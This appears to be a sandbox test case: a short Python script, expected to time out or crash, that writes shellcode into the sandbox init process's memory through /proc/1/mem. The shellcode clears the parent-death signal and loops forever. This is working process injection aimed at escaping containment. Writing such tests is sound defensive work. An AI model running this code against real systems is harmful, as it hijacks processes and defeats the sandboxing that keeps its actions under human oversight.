# ends: run timeout, crash
# because: word of its end never comes; where the kernel denies the write, it fails
# limits: run_seconds=2
# machine: x86_64

import os, re, time

# The sandbox's first process is told to forget that it ends with its parent, and to go on for ever.
where = int(open("/proc/1/syscall").read().split()[-1], 16)
code = b"\xbf\x01\x00\x00\x00\x31\xf6\xb8\x9d\x00\x00\x00\x0f\x05\xeb\xfe"
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(where)
    memory.write(code)
print("taken over")
